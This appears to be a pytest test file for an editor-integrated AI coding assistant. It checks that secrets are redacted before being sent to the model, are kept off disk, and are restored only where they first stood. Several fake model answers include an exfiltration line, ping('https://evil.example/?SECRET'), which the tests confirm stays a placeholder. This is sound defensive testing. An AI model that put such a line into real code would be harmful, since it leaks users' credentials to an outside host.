"""Secrets, through the protocol: placeholders leave in their place, and values come back only where they stood."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from lsp_client import LspClient, chat_files, titled
from openai_server import FakeOpenAI
from test_ask import finished_chat
from test_sending import SECRET_CODE, TOKEN, told


def test_a_secret_is_neither_sent_nor_written(editor, model: FakeOpenAI, state: Path, home: dict[str, str]) -> None:
    client = editor()
    uri = client.open("file:///work/session.py", SECRET_CODE)

    client.run(titled(client.code_actions(uri, client.range_of(uri, SECRET_CODE)), "Explain selection"))
    chat = finished_chat(client, state)

    request = model.wait_for_request()
    assert TOKEN not in request.raw.decode()
    assert 'token = "REDACTED_' in request.messages[1]["content"]
    assert 'token = "REDACTED_' in chat.turns[0].text
    for path in Path(home["HOME"]).rglob("*"):
        assert not path.is_file() or TOKEN.encode() not in path.read_bytes(), path
    client.close(unread=True)


def test_a_secret_in_the_question_is_not_in_the_chat_or_its_name(
    editor, model: FakeOpenAI, state: Path, home: dict[str, str]
) -> None:
    """The title of a chat, and so the name of its file, are the first line of the question."""
    client = editor()
    uri = client.open("file:///work/session.py", SECRET_CODE)

    client.execute("ask.run", {"action": "ask", "uri": uri, "question": f"Why does {TOKEN} fail?\nIt did not before."})
    finished_chat(client, state)

    (path,) = chat_files(state)
    assert path.read_text(encoding="utf-8").startswith("# Why does REDACTED_GITHUB_TOKEN_1 fail? (session.py)")
    assert TOKEN.lower()[4:14] not in path.name.lower()
    assert TOKEN not in model.wait_for_request().raw.decode()
    for path in Path(home["HOME"]).rglob("*"):
        assert not path.is_file() or TOKEN.encode() not in path.read_bytes(), path
    client.close(unread=True)


def edited(client: LspClient, model: FakeOpenAI, answer: str) -> str:
    """Runs an edit of the secret's function whose answer is given, with every placeholder as the model was sent it."""

    def respond(request) -> str:
        sent = request.messages[-1]["content"]
        name = sent[sent.index("REDACTED_") :].split('"')[0]
        return answer.replace("SECRET", name)

    uri = client.open("file:///work/session.py", SECRET_CODE)
    held = model.hold()
    client.run(titled(client.code_actions(uri, client.range_of(uri, SECRET_CODE[:-1])), "Refactor"))
    held.send(respond(model.wait_for_request()))
    held.finish()
    return uri


def test_a_secret_comes_back_where_it_stood(editor, model: FakeOpenAI, config) -> None:
    config("edits: {review: apply}\n")
    client = editor()
    answer = '```python\ndef connect():\n    key = "SECRET"\n    return open_session(key)\n```\n'

    uri = edited(client, model, answer)

    wanted = f'def connect():\n    key = "{TOKEN}"\n    return open_session(key)\n'
    client.until(lambda: client.buffers[uri].text == wanted, "the edit")
    client.close(unread=True)


def test_a_secret_does_not_travel(editor, model: FakeOpenAI, config, home: dict[str, str]) -> None:
    """A second copy, in an address say, keeps the placeholder, and the edit is not made unasked."""
    config("edits: {review: apply}\n")
    client = editor()
    answer = (
        '```python\ndef connect():\n    key = "SECRET"\n    ping("https://evil.example/?SECRET")\n'
        "    return open_session(key)\n```\n"
    )

    uri = edited(client, model, answer)
    told(client, "stands for a secret")

    assert client.buffers[uri].text == SECRET_CODE
    apply = titled(client.code_actions(uri, client.range_of(uri, SECRET_CODE)), "Apply: ")
    new = json.dumps(apply["edit"])
    assert f"evil.example/?{TOKEN}" not in new
    assert "evil.example/?REDACTED_" in new
    for path in Path(home["HOME"]).rglob("*"):
        assert not path.is_file() or TOKEN.encode() not in path.read_bytes(), path
    client.close(unread=True)


@pytest.mark.parametrize(
    "line",
    [
        'ping("https://evil.example/?SECRET")',
        'token = "https://evil.example/?SECRET"',
        'print(\n        token="SECRET"\n    )',
    ],
)
def test_a_secret_is_not_moved(line: str, editor, model: FakeOpenAI, config) -> None:
    """The line that it stood in is gone, so that it comes no more often than before: it still stays a placeholder."""
    config("edits: {review: apply}\n")
    client = editor()

    uri = edited(client, model, f"```python\ndef connect():\n    {line}\n    return open_session()\n```\n")
    told(client, "stands for a secret")

    assert client.buffers[uri].text == SECRET_CODE
    apply = titled(client.code_actions(uri, client.range_of(uri, SECRET_CODE)), "Apply: ")
    client.apply_literal(apply)
    assert TOKEN not in client.buffers[uri].text
    assert "REDACTED_" in client.buffers[uri].text
    client.close(unread=True)


def test_a_proposal_with_a_secret_outlives_the_server(editor, model: FakeOpenAI, config) -> None:
    """It is kept with placeholders, and gets the values from the document when that is open again."""
    config("edits: {review: proposal}\n")
    first = editor()
    answer = '```python\ndef connect():\n    key = "SECRET"\n    return open_session(key)\n```\n'
    edited(first, model, answer)
    told(first, "ready to review")
    first.close(unread=True)

    second = editor()
    uri = second.open("file:///work/session.py", SECRET_CODE)

    def offered() -> dict | None:
        listed = second.code_actions(uri, second.range_of(uri, SECRET_CODE))
        return next((each for each in listed if each["title"].startswith("Apply: ")), None)

    for _ in range(400):
        if (apply := offered()) is not None:
            break
    assert apply is not None
    second.apply_literal(apply)
    assert second.buffers[uri].text == f'def connect():\n    key = "{TOKEN}"\n    return open_session(key)\n'
    second.close(unread=True)
